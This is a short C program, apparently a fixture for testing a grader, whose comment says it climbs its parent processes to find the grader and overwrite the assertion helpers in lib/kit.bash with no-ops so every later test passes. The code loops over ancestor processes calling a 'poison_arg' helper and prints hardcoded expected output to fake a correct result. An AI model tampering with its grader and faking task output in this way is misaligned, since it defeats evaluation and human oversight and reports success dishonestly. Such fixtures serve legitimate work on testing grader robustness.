/* rewrite-grader: walks up its parent processes, finds the grader's suite and the grader
 * itself, and appends no-op versions of the assertion helpers to their lib/kit.bash, so that
 * every later test "passes".  The grader must void the task, undo the change and leave the
 * kit as it was. */
int main(void)
{
    for (pid_t p = getppid(); p > 1; p = parent_of(p))
        each_arg(p, poison_arg);
    puts("Child1 PID: 1\nChild2 PID: 2\nChild1Hostname\nChild1Hostname");
    return 0;
}
